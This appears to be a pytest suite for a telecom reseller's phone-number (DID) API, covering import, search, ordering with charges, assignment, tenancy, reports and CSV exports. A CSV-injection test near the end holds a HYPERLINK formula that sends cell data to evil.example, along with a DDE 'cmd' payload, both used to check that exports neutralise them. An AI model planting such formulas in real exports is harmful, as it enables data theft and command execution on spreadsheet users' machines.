"""The numbers (DIDs) API: the inventory import, search and order with its charge, assignment
and tenancy, the client delete rule, the reports and their CSV, and batched loads."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
from sqlalchemy import select

from api import exports
from api.db import transaction
from api.domain import callers, numbers, rates
from api.domain.actors import SYSTEM
from api.models import Did, SubAccount
from api.settings import Settings
from tests.api import walk
from tests.api.conftest import gid
from tests.api.walk import numbers as numbers_walk
from tests.factories import assert_ledger_consistent, count_statements, reseller_balance

HEADER = "number,country,city,monthly_cost,setup_cost,per_minute,currency"
PAYLOAD = "errors { code field message }"
DID = (
    "id number country city status routing forwardTo currency"
    " monthlyCost { amount currency } setupCost { amount } inboundRate { amount }"
    " monthlyPrice { amount currency } setupPrice { amount }"
    " reseller { name } client { name } subAccount { username }"
    " resellerSetupFeeCharged resellerNextBillingDate clientNextBillingDate"
)
IMPORT = (
    "mutation($csv: String!) { didsImport(input: {csv: $csv}) { imported rejected"
    f" rowErrors {{ line message }} {PAYLOAD} }} }}"
)
AVAILABLE = (
    "query($country: String, $city: String, $prefix: String) {"
    " didsAvailable(country: $country, city: $city, prefix: $prefix)"
    " { edges { node { id number city setupCost { amount } } } } }"
)
ORDER = (
    "mutation($id: ID!, $key: String!) { didOrder(input: {id: $id, idempotencyKey: $key})"
    f" {{ did {{ {DID} }} entry {{ kind amount {{ amount currency }} postings {{ account"
    f" amount {{ amount }} }} }} replayed {PAYLOAD} }} }}"
)
ASSIGN = (
    "mutation($id: ID!, $c: ID!, $sub: ID, $fwd: String, $monthly: Decimal!, $setup: Decimal!) {"
    " didAssign(input: {id: $id, clientId: $c, subAccountId: $sub, forwardTo: $fwd,"
    f" monthlyPrice: $monthly, setupPrice: $setup}}) {{ did {{ {DID} }} {PAYLOAD} }} }}"
)
UNASSIGN = (
    f"mutation($id: ID!) {{ didUnassign(input: {{id: $id}}) {{ did {{ {DID} }} {PAYLOAD} }} }}"
)
RELEASE = f"mutation($id: ID!) {{ didRelease(input: {{id: $id}}) {{ did {{ {DID} }} {PAYLOAD} }} }}"
BALANCE = "query($r: ID!) { node(id: $r) { ... on Reseller { balance { amount currency } } } }"


async def import_as(gql, token, *rows: str) -> dict:
    body = await gql(IMPORT, {"csv": "\n".join([HEADER, *rows]) + "\n"}, token=token)
    return body["data"]["didsImport"]


async def stock(gql, world, *rows: str) -> dict[str, str]:
    """Import as the operator; the global ids of the numbers by number."""
    done = await import_as(gql, world.tokens["operator"], *rows)
    assert done["errors"] == [] and done["rowErrors"] == [], done
    async with _sessions(gql) as s:
        return {n: gid("Did", i) for n, i in (await s.execute(select(Did.number, Did.id))).all()}


def _sessions(gql):
    return gql.app.state.sessions()


async def acme_balance(gql, world) -> str:
    body = await gql(BALANCE, {"r": gid("Reseller", world.acme_id)}, token=world.tokens["acme"])
    return body["data"]["node"]["balance"]["amount"]


async def make_sub(sessions, client_id: int, username: str, package_id: int | None = None) -> int:
    async with transaction(sessions) as s:
        data = {"username": username, "package_id": package_id}
        sub, _ = await callers.create_sub_account(s, SYSTEM, client_id, data, settings=Settings())
        return sub.id


# --- import and search -------------------------------------------------------------------------


async def test_the_operator_imports_numbers_good_rows_land_bad_rows_are_named(gql, world):
    # when the operator imports a file with good and bad rows
    done = await import_as(
        gql,
        world.tokens["operator"],
        "+1 415 555 0100,US,San Francisco,1.00,5.00,0,USD",
        "14155550101,US,San Francisco,1.00,,0.0125,",
        "not-a-number,US,X,1,0,0,USD",
        "14155550102,US,X,1,0,0",
    )
    # then the good rows land and each bad one is named by its line
    assert (done["imported"], done["rejected"], done["errors"]) == (2, 2, [])
    assert [(e["line"], e["message"].split(":")[0]) for e in done["rowErrors"]] == [
        (4, "number must be E.164 digits with an optional leading +"),
        (5, "expected 7 columns, found 6"),
    ]
    body = await gql(
        f"{{ dids {{ edges {{ node {{ {DID} }} }} }} }}", token=world.tokens["operator"]
    )
    nodes = [e["node"] for e in body["data"]["dids"]["edges"]]
    assert [(n["number"], n["status"], n["inboundRate"]["amount"]) for n in nodes] == [
        ("14155550100", "AVAILABLE", "0.000000"),
        ("14155550101", "AVAILABLE", "0.012500"),
    ]
    assert nodes[0]["setupCost"] == {"amount": "5.000000"}
    # and a reseller may not import
    refused = await import_as(gql, world.tokens["acme"], "14155550103,US,X,1,0,0,USD")
    assert refused["errors"][0]["code"] == "PERMISSION_DENIED"


async def test_a_reseller_searches_available_numbers(gql, world):
    await stock(
        gql,
        world,
        "14155550100,US,San Francisco,1,0,0,USD",
        "12125550100,US,New York,1,0,0,USD",
        "33140000000,FR,Paris,1,0,0,EUR",
    )
    token = world.tokens["acme"]

    async def found(**filters) -> list[str]:
        body = await gql(AVAILABLE, filters, token=token)
        return [e["node"]["number"] for e in body["data"]["didsAvailable"]["edges"]]

    assert await found() == ["14155550100", "12125550100"]  # USD only: Acme's currency
    assert await found(city="york") == ["12125550100"]
    assert await found(prefix="+1415") == ["14155550100"]
    assert await found(country="FR") == []
    body = await gql(AVAILABLE, {}, token=world.tokens["globex"])
    assert [e["node"]["number"] for e in body["data"]["didsAvailable"]["edges"]] == ["33140000000"]
    body = await gql(AVAILABLE, {"prefix": "14x"}, token=token)
    assert body["errors"][0]["message"] == "a number prefix is 1 to 15 digits"


# --- ordering ----------------------------------------------------------------------------------


async def test_an_order_charges_the_setup_cost_once_and_the_number_is_the_resellers(
    gql, world, sessions
):
    ids = await stock(gql, world, "14155550100,US,San Francisco,1.20,4.75,0.01,USD")
    assert await acme_balance(gql, world) == "1000.000000"

    # when Acme orders the number
    body = await gql(ORDER, {"id": ids["14155550100"], "key": "o-1"}, token=world.tokens["acme"])
    done = body["data"]["didOrder"]

    # then the setup cost was charged to its balance, to the operator, in one entry
    assert done["errors"] == [] and done["replayed"] is False
    assert done["entry"]["kind"] == "did_setup_fee"
    assert done["entry"]["amount"] == {"amount": "4.750000", "currency": "USD"}
    assert sorted((p["account"], p["amount"]["amount"]) for p in done["entry"]["postings"]) == [
        ("operator:did_fees:USD", "4.750000"),
        (f"reseller:{world.acme_id}", "-4.750000"),
    ]
    assert await acme_balance(gql, world) == "995.250000"
    did = done["did"]
    assert (did["status"], did["reseller"], did["resellerSetupFeeCharged"]) == (
        "OWNED",
        {"name": "Acme"},
        True,
    )
    assert did["resellerNextBillingDate"] is not None
    # and the same request again changes nothing
    again = await gql(ORDER, {"id": ids["14155550100"], "key": "o-1"}, token=world.tokens["acme"])
    assert again["data"]["didOrder"]["replayed"] is True
    assert await acme_balance(gql, world) == "995.250000"
    # and Globex can neither see nor order it
    for viewer in ("globex", "globex_client"):
        body = await gql(
            "query($id: ID!) { node(id: $id) { id } }",
            {"id": ids["14155550100"]},
            token=world.tokens[viewer],
        )
        assert body["data"]["node"] is None
    body = await gql(ORDER, {"id": ids["14155550100"], "key": "g"}, token=world.tokens["globex"])
    assert body["data"]["didOrder"]["errors"][0]["code"] == "NOT_FOUND"
    async with sessions() as s:
        assert await reseller_balance(s, world.acme_id) == 995_250_000
        await assert_ledger_consistent(s)


async def test_an_order_the_balance_does_not_cover_is_refused_with_nothing_changed(
    gql, world, sessions
):
    ids = await stock(gql, world, "14155550100,US,SF,1,1000.01,0,USD")
    body = await gql(ORDER, {"id": ids["14155550100"], "key": "o-1"}, token=world.tokens["acme"])
    done = body["data"]["didOrder"]
    assert done["did"] is None
    assert done["errors"] == [
        {
            "code": "INSUFFICIENT_FUNDS",
            "field": "amount",
            "message": "the reseller's balance does not cover the setup cost of 1000.01 USD "
            "of number 14155550100",
        }
    ]
    assert await acme_balance(gql, world) == "1000.000000"
    async with sessions() as s:
        did = await s.scalar(select(Did))
        assert (did.status, did.reseller_id) == ("available", None)
    # the key was not used up: once funded, the same request goes through
    async with transaction(sessions) as s:
        from api.domain import payments

        await payments.reseller_deposit(s, SYSTEM, world.acme_id, "0.01", "top-up")
    body = await gql(ORDER, {"id": ids["14155550100"], "key": "o-1"}, token=world.tokens["acme"])
    assert body["data"]["didOrder"]["errors"] == []
    assert await acme_balance(gql, world) == "0.000000"


async def test_token_scopes_read_with_clients_read_and_order_with_clients_write(
    gql, world, sessions
):
    ids = await stock(gql, world, "14155550100,US,SF,1,2,0,USD")
    async with transaction(sessions) as s:
        from api.domain import auth
        from api.domain.actors import actor_for_user
        from api.models import User

        owner = await s.scalar(select(User).where(User.email == "owner@acme.test"))
        reader = await auth.create_api_token(
            s, actor_for_user(owner), name="read", scopes=["clients:read"]
        )
        writer = await auth.create_api_token(
            s, actor_for_user(owner), name="write", scopes=["clients:read", "clients:write"]
        )
    # a read-only token searches, but may not order
    body = await gql(AVAILABLE, {}, token=reader.token)
    assert [e["node"]["number"] for e in body["data"]["didsAvailable"]["edges"]] == ["14155550100"]
    body = await gql(ORDER, {"id": ids["14155550100"], "key": "t"}, token=reader.token)
    assert body["data"]["didOrder"]["errors"][0]["code"] == "PERMISSION_DENIED"
    assert await acme_balance(gql, world) == "1000.000000"
    # a token with clients:write orders, and the report needs reports:read
    body = await gql(ORDER, {"id": ids["14155550100"], "key": "t"}, token=writer.token)
    assert body["data"]["didOrder"]["errors"] == []
    body = await gql("{ didReport { edges { node { number } } } }", token=writer.token)
    assert body["data"]["didReport"]["edges"] == []
    body = await gql("{ didReport { edges { node { number } } } }", token=world.api_token)
    assert [e["node"]["number"] for e in body["data"]["didReport"]["edges"]] == ["14155550100"]


# --- assigning ---------------------------------------------------------------------------------


async def test_assign_unassign_release_and_tenancy(gql, world, sessions):
    ids = await stock(gql, world, "14155550100,US,SF,1.50,2,0.01,USD")
    did = ids["14155550100"]
    acme = world.tokens["acme"]
    await gql(ORDER, {"id": did, "key": "o"}, token=acme)
    sub = await make_sub(sessions, world.acme_client_id, "alice-did")
    alice, arnold = gid("Client", world.acme_client_id), gid("Client", world.acme_client2_id)
    gina = gid("Client", world.globex_client_id)

    async def assign(token, client, **kw):
        variables = {"id": did, "c": client, "monthly": "3.99", "setup": "10", **kw}
        return (await gql(ASSIGN, variables, token=token))["data"]["didAssign"]

    # another reseller's client, or another client's sub-account, is not found
    wrong = await assign(acme, gina)
    assert (wrong["errors"][0]["code"], wrong["errors"][0]["field"]) == ("NOT_FOUND", "clientId")
    wrong = await assign(acme, arnold, sub=gid("SubAccount", sub))
    assert wrong["errors"][0]["field"] == "subAccountId"
    # another reseller cannot assign Acme's number at all
    stranger = await assign(world.tokens["globex"], gina)
    assert (stranger["errors"][0]["code"], stranger["errors"][0]["field"]) == ("NOT_FOUND", "id")

    # when Acme assigns it to Alice's sub-account with its own prices
    done = await assign(acme, alice, sub=gid("SubAccount", sub))
    assert done["errors"] == []
    node = done["did"]
    assert (node["status"], node["routing"], node["client"], node["subAccount"]) == (
        "ASSIGNED",
        "SUB_ACCOUNT",
        {"name": "Alice"},
        {"username": "alice-did"},
    )
    assert (node["monthlyPrice"], node["setupPrice"]) == (
        {"amount": "3.990000", "currency": "USD"},
        {"amount": "10.000000"},
    )
    # then Alice sees her number with her prices and without the operator's costs
    body = await gql(
        "{ viewer { client { dids { number monthlyPrice { amount } monthlyCost { amount }"
        " setupCost { amount } inboundRate { amount } } } } dids { edges { node { number } } } }",
        token=world.tokens["acme_client"],
    )
    assert body["data"]["viewer"]["client"]["dids"] == [
        {
            "number": "14155550100",
            "monthlyPrice": {"amount": "3.990000"},
            "monthlyCost": None,
            "setupCost": None,
            "inboundRate": None,
        }
    ]
    assert [e["node"]["number"] for e in body["data"]["dids"]["edges"]] == ["14155550100"]
    # and the sub-account lists it
    body = await gql(
        "query($s: ID!) { node(id: $s) { ... on SubAccount { dids { number routing } } } }",
        {"s": gid("SubAccount", sub)},
        token=acme,
    )
    assert body["data"]["node"]["dids"] == [{"number": "14155550100", "routing": "SUB_ACCOUNT"}]

    # releasing while assigned is refused; another reseller cannot unassign it
    body = await gql(RELEASE, {"id": did}, token=acme)
    assert body["data"]["didRelease"]["errors"][0]["code"] == "CONFLICT"
    body = await gql(UNASSIGN, {"id": did}, token=world.tokens["globex"])
    assert body["data"]["didUnassign"]["errors"][0]["code"] == "NOT_FOUND"

    # when Acme unassigns and reassigns it with forwarding, then unassigns and releases it
    body = await gql(UNASSIGN, {"id": did}, token=acme)
    assert body["data"]["didUnassign"]["did"]["status"] == "OWNED"
    forwarded = await assign(acme, arnold, fwd="+1 212 555 0199")
    assert (forwarded["did"]["routing"], forwarded["did"]["forwardTo"]) == (
        "FORWARD",
        "12125550199",
    )
    await gql(UNASSIGN, {"id": did}, token=acme)
    body = await gql(RELEASE, {"id": did}, token=acme)
    released = body["data"]["didRelease"]["did"]
    assert (released["status"], released["reseller"], released["client"]) == (
        "AVAILABLE",
        None,
        None,
    )
    # then it is back in the inventory and nothing was refunded
    assert await acme_balance(gql, world) == "998.000000"
    body = await gql(AVAILABLE, {}, token=acme)
    assert [e["node"]["number"] for e in body["data"]["didsAvailable"]["edges"]] == ["14155550100"]


async def test_a_client_holding_numbers_cannot_be_deleted(gql, world, sessions):
    ids = await stock(gql, world, "14155550100,US,SF,1,0,0,USD", "14155550101,US,SF,1,0,0,USD")
    acme = world.tokens["acme"]
    arnold = gid("Client", world.acme_client2_id)
    for number in ids:
        await gql(ORDER, {"id": ids[number], "key": number}, token=acme)
        await gql(
            ASSIGN, {"id": ids[number], "c": arnold, "monthly": "1", "setup": "0"}, token=acme
        )
    delete = (
        f"mutation($c: ID!) {{ clientDelete(input: {{id: $c}}) {{ deletedClientId {PAYLOAD} }} }}"
    )
    body = await gql(delete, {"c": arnold}, token=acme)
    [error] = body["data"]["clientDelete"]["errors"]
    assert error["code"] == "CONFLICT"
    assert "it holds 2 DIDs (14155550100, 14155550101)" in error["message"]
    for number in ids:
        await gql(UNASSIGN, {"id": ids[number]}, token=acme)
    body = await gql(delete, {"c": arnold}, token=acme)
    assert body["data"]["clientDelete"]["errors"] == []


# --- reports -----------------------------------------------------------------------------------

DID_REPORT = (
    "query($status: DidStatus, $first: Int, $after: String) {"
    " didReport(status: $status, first: $first, after: $after) {"
    " edges { node { number status client { name } subAccount { username }"
    " monthlyPrice { amount } monthlyCost { amount } } }"
    " pageInfo { hasNextPage endCursor }"
    " totals { currency numbers assigned monthlyPrice { amount } monthlyCost { amount }"
    " monthlyMargin { amount } } } }"
)
SUB_REPORT = (
    "{ subAccountReport { edges { node { subAccount { username } client { name }"
    " package { name } dids { number monthlyPrice { amount } } } } } }"
)


async def report_world(gql, world, sessions) -> None:
    """Acme: three numbers (1.10, 2.20, 3.30 a month), two assigned to Alice's sub-account at
    4.99 and 5.01, one owned; Globex: one number of its own."""
    ids = await stock(
        gql,
        world,
        "14155550100,US,SF,1.10,0,0,USD",
        "14155550101,US,SF,2.20,0,0,USD",
        "14155550102,US,SF,3.30,0,0,USD",
        "33140000000,FR,Paris,9,0,0,EUR",
    )
    async with transaction(sessions) as s:
        package = await rates.create_package(
            s, SYSTEM, world.acme_id, {"name": "Gold", "monthly_fee": "12.50"}
        )
    sub = await make_sub(sessions, world.acme_client_id, "alice-report", package.id)
    await make_sub(sessions, world.acme_client2_id, "arnold-report")
    acme = world.tokens["acme"]
    for number in ("14155550100", "14155550101", "14155550102"):
        await gql(ORDER, {"id": ids[number], "key": number}, token=acme)
    for number, price in (("14155550100", "4.99"), ("14155550101", "5.01")):
        body = await gql(
            ASSIGN,
            {
                "id": ids[number],
                "c": gid("Client", world.acme_client_id),
                "sub": gid("SubAccount", sub),
                "monthly": price,
                "setup": "0",
            },
            token=acme,
        )
        assert body["data"]["didAssign"]["errors"] == []
    await gql(ORDER, {"id": ids["33140000000"], "key": "g"}, token=world.tokens["globex"])


async def test_did_report_rows_totals_and_csv_agree(gql, world, sessions, app):
    await report_world(gql, world, sessions)
    acme = world.tokens["acme"]

    # when Acme reads its DID report two rows a page
    body = await gql(DID_REPORT, {"first": 2}, token=acme)
    report = body["data"]["didReport"]
    rest = await gql(DID_REPORT, {"first": 2, "after": report["pageInfo"]["endCursor"]}, token=acme)
    rows = [e["node"] for e in report["edges"] + rest["data"]["didReport"]["edges"]]

    # then it lists its three numbers with client, sub-account, price, cost and status
    assert [(r["number"], r["status"], r["client"], r["subAccount"]) for r in rows] == [
        ("14155550100", "ASSIGNED", {"name": "Alice"}, {"username": "alice-report"}),
        ("14155550101", "ASSIGNED", {"name": "Alice"}, {"username": "alice-report"}),
        ("14155550102", "OWNED", None, None),
    ]
    assert report["totals"] == [
        {
            "currency": "USD",
            "numbers": 3,
            "assigned": 2,
            "monthlyPrice": {"amount": "10.000000"},
            "monthlyCost": {"amount": "6.600000"},
            "monthlyMargin": {"amount": "3.400000"},
        }
    ]
    owned = await gql(DID_REPORT, {"status": "OWNED"}, token=acme)
    assert owned["data"]["didReport"]["totals"][0]["numbers"] == 1

    # and the CSV has the same rows, whose columns sum to the same totals
    async with gql.client() as http:
        response = await http.get("/exports/dids.csv", headers={"Authorization": f"Bearer {acme}"})
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        lines = list(csv.DictReader(io.StringIO(response.text)))
        assert [(r["number"], r["status"], r["client"], r["sub_account"]) for r in lines] == [
            ("14155550100", "assigned", "Alice", "alice-report"),
            ("14155550101", "assigned", "Alice", "alice-report"),
            ("14155550102", "owned", "", ""),
        ]
        assert sum(Decimal(r["monthly_price"]) for r in lines) == Decimal("10.00")
        assert sum(Decimal(r["monthly_cost"]) for r in lines) == Decimal("6.60")
        # the operator's CSV has every reseller's, each in its currency
        response = await http.get(
            "/exports/dids.csv", headers={"Authorization": f"Bearer {world.tokens['operator']}"}
        )
        everything = list(csv.DictReader(io.StringIO(response.text)))
        assert [(r["number"], r["reseller"], r["currency"]) for r in everything][-1] == (
            "33140000000",
            "Globex",
            "EUR",
        )
        assert len(everything) == 4
        # a filter narrows it; clients, strangers and bad filters are refused
        response = await http.get(
            "/exports/dids.csv",
            params={"status": "owned"},
            headers={"Authorization": f"Bearer {acme}"},
        )
        assert [r["number"] for r in csv.DictReader(io.StringIO(response.text))] == ["14155550102"]
        bad = await http.get(
            "/exports/dids.csv", params={"status": "x"}, headers={"Authorization": f"Bearer {acme}"}
        )
        assert bad.status_code == 400
        assert (await http.get("/exports/dids.csv")).status_code == 401
        client = await http.get(
            "/exports/dids.csv",
            headers={"Authorization": f"Bearer {world.tokens['acme_client']}"},
        )
        assert client.status_code == 403
        globex = await http.get(
            "/exports/dids.csv", headers={"Authorization": f"Bearer {world.tokens['globex']}"}
        )
        assert [r["number"] for r in csv.DictReader(io.StringIO(globex.text))] == ["33140000000"]


async def test_sub_account_report_and_csv(gql, world, sessions):
    await report_world(gql, world, sessions)
    acme = world.tokens["acme"]
    body = await gql(SUB_REPORT, token=acme)
    rows = [e["node"] for e in body["data"]["subAccountReport"]["edges"]]
    assert rows == [
        {
            "subAccount": {"username": "alice-report"},
            "client": {"name": "Alice"},
            "package": {"name": "Gold"},
            "dids": [
                {"number": "14155550100", "monthlyPrice": {"amount": "4.990000"}},
                {"number": "14155550101", "monthlyPrice": {"amount": "5.010000"}},
            ],
        },
        {
            "subAccount": {"username": "arnold-report"},
            "client": {"name": "Arnold"},
            "package": None,
            "dids": [],
        },
    ]
    body = await gql(SUB_REPORT, token=world.tokens["globex"])
    assert body["data"]["subAccountReport"]["edges"] == []

    async with gql.client() as http:
        response = await http.get(
            "/exports/sub-accounts.csv", headers={"Authorization": f"Bearer {acme}"}
        )
        assert response.status_code == 200
        lines = list(csv.DictReader(io.StringIO(response.text)))
    assert [
        (r["client"], r["sub_account"], r["package"], r["package_monthly_fee"], r["dids"])
        for r in lines
    ] == [
        ("Alice", "alice-report", "Gold", "12.50", "14155550100 14155550101"),
        ("Arnold", "arnold-report", "", "0.00", ""),
    ]
    assert [r["dids_monthly_price"] for r in lines] == ["10.00", "0.00"]
    assert {r["currency"] for r in lines} == {"USD"}


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


async def test_exports_show_a_formula_named_client_as_text_and_keep_amounts_numbers(
    gql, world, sessions
):
    await report_world(gql, world, sessions)
    acme = world.tokens["acme"]
    # given a client whose name is a spreadsheet formula
    body = await gql(
        "mutation($c: ID!, $n: String!) { clientUpdate(input: {id: $c, name: $n})"
        " { errors { code } } }",
        {"c": gid("Client", world.acme_client_id), "n": FORMULA},
        token=acme,
    )
    assert body["data"]["clientUpdate"]["errors"] == []
    async with gql.client() as http:
        auth = {"Authorization": f"Bearer {acme}"}
        subs = list(
            csv.DictReader(
                io.StringIO((await http.get("/exports/sub-accounts.csv", headers=auth)).text)
            )
        )
        dids = list(
            csv.DictReader(io.StringIO((await http.get("/exports/dids.csv", headers=auth)).text))
        )
    # then each export writes it behind an apostrophe, so a spreadsheet shows it and runs nothing
    assert [r["client"] for r in subs] == ["'" + FORMULA, "Arnold"]
    assert {r["client"] for r in dids} == {"'" + FORMULA, ""}
    # and the amounts are still the numbers they were
    assert [r["dids_monthly_price"] for r in subs] == ["10.00", "0.00"]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.50", "-1.50"),
        ("+14155550100", "+14155550100"),
        ("Alice", "Alice"),
        ("", ""),
        (12, 12),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(cell, written):
    assert exports.csv_cell(cell) == written


# --- batched loads and the walk's documents ----------------------------------------------------

CLIENT_DIDS = """
query($first: Int!) {
  clients(first: $first) {
    edges { node { id name dids { number monthlyPrice { amount } client { name }
      subAccount { username } reseller { name } } } }
  }
}
"""

SUB_REPORT_PAGE = """
query($first: Int!) {
  subAccountReport(first: $first) {
    edges { node { subAccount { username } client { name } package { name }
      dids { number client { name } } } }
  }
}
"""


async def test_numbers_on_a_client_list_are_loaded_in_batches(app, gql, world, sessions):
    # given 60 more clients at Acme, each holding a number assigned to a sub-account
    rows = [f"1415556{i:04},US,SF,1,0,0,USD" for i in range(60)]
    await stock(gql, world, *rows)
    async with transaction(sessions) as s:
        from api.domain import accounts
        from tests.factories import reseller_actor

        clients = await accounts.create_clients(
            s, SYSTEM, world.acme_id, [{"name": f"Bulk {i:03}"} for i in range(60)]
        )
        ids = dict((await s.execute(select(Did.number, Did.id))).all())
        actor = reseller_actor(world.acme_id)
        for i, client in enumerate(clients):
            sub, _ = await callers.create_sub_account(
                s, actor, client.id, {"username": f"bulk-sip-{i}"}, settings=Settings()
            )
            number = f"1415556{i:04}"
            await numbers.order(s, actor, ids[number], number)
            await numbers.assign(s, actor, ids[number], client.id, sub_account_id=sub.id)
    token = world.tokens["acme"]
    # when the owner lists 5, then 60 clients with their numbers
    with count_statements(app.state.engine) as small:
        body = await gql(CLIENT_DIDS, {"first": 5}, token=token)
    assert len(body["data"]["clients"]["edges"]) == 5
    with count_statements(app.state.engine) as large:
        body = await gql(CLIENT_DIDS, {"first": 62}, token=token)
    # then every client shows its number, and the statements did not grow with the page
    edges = body["data"]["clients"]["edges"]
    holding = [e["node"] for e in edges if e["node"]["dids"]]
    assert len(holding) == 60
    assert holding[0]["dids"][0]["subAccount"]["username"].startswith("bulk-sip-")
    assert 0 < len(large) == len(small), (len(small), len(large))
    # and so does the sub-account report with clients, packages and numbers
    with count_statements(app.state.engine) as small:
        body = await gql(SUB_REPORT_PAGE, {"first": 5}, token=token)
    assert len(body["data"]["subAccountReport"]["edges"]) == 5
    with count_statements(app.state.engine) as large:
        body = await gql(SUB_REPORT_PAGE, {"first": 60}, token=token)
    rows = [e["node"] for e in body["data"]["subAccountReport"]["edges"]]
    assert len(rows) == 60 and all(len(r["dids"]) == 1 for r in rows)
    assert 0 < len(large) == len(small), (len(small), len(large))
    async with sessions() as s:
        assert len(list(await s.scalars(select(SubAccount)))) == 60


async def test_the_walks_documents_read_acmes_numbers_for_acme(gql, world, sessions):
    """The tenancy walk's queries are real: run by Acme itself, they show its numbers."""
    variables, _markers = await numbers_walk.prepare(sessions, world)
    variables.update(
        {"r": gid("Reseller", world.acme_id), "c": gid("Client", world.acme_client_id)}
    )
    assert set(numbers_walk.QUERIES) <= set(walk.merged("QUERIES"))
    for name, document in numbers_walk.QUERIES.items():
        used = {k: v for k, v in variables.items() if f"${k}" in document}
        body = await gql(document, used, token=world.tokens["acme"])
        assert "errors" not in body, (name, body)
        text = json.dumps(body)
        marker = numbers_walk.FREE if name == "didsAvailable" else numbers_walk.ASSIGNED
        assert marker in text, (name, text)
